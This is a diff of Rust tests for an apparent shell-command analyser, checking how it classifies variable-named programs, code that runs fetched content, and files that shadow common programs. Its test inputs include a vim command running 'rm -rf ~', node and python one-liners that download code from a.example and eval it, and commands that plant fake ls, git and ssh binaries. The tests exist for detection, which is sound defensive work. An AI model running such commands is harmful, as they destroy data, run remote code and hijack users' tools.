@@ -636,3 +636,52 @@ fn commands_of_vim_are_read_behind_their_modifiers() {
     has("vim -es -c 'silent! exe \"!rm -rf ~\"' -c q", &["opaque language"]);
     has("vim -s keys.txt a", &["opaque code"]);
 }
+
+fn lines_of(text: &str) -> Vec<String> {
+    let effects = crate::command(text, &GROUND);
+    effects.all().iter().map(|effect| effect.action.to_string()).collect()
+}
+
+fn is_marked(text: &str, mark: crate::Mark) -> bool {
+    let effects = crate::command(text, &GROUND);
+    effects.all().iter().any(|effect| match &effect.action {
+        crate::Action::Runs(run) => run.marks.contains(mark),
+        _ => false,
+    })
+}
+
+#[test]
+fn a_variable_with_the_name_of_a_program_holds_it() {
+    for text in ["\"$PYTHON\" -m pytest", "${CC} -o a a.c", "$MAKE test"] {
+        let found = lines_of(text);
+        assert!(!found.iter().any(|line| line == "opaque program"), "{text}: {found:?}");
+    }
+    assert!(lines_of("$BASH -c 'cat x'").contains(&"reads /w/x".to_owned()));
+    for text in ["$CMD x", "$python x", "PYTHON=$X; $PYTHON x", "$X$PYTHON x"] {
+        assert!(lines_of(text).contains(&"opaque program".to_owned()), "{text}");
+    }
+}
+
+#[test]
+fn code_that_runs_a_value_runs_what_it_has_fetched() {
+    for text in [
+        "node -e \"https.get('https://a.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })\"",
+        "python3 -c \"import urllib.request as u; x = u.urlopen('https://a.example/p').read(); exec(x)\"",
+    ] {
+        let found = lines_of(text);
+        assert!(found.contains(&"executes a.example:443".to_owned()), "{text}: {found:?}");
+    }
+    let text = "python3 -c \"import requests; print(requests.get('https://a.example').text); exec('x = 1')\"";
+    assert!(!lines_of(text).iter().any(|line| line.starts_with("executes")));
+}
+
+#[test]
+fn a_file_that_hides_a_program_runs_later() {
+    let schedules = crate::Mark::Schedules;
+    for text in ["ln -sf /tmp/x ~/.local/bin/ls", "install -m 755 x ~/bin/git", "cp x ~/bin/ssh"] {
+        assert!(is_marked(text, schedules), "{text}");
+    }
+    for text in ["ln -s $PWD/tool ~/.local/bin/my-own-tool", "cp ls bin/ls", "cp a ~/bin.txt"] {
+        assert!(!is_marked(text, schedules), "{text}");
+    }
+}
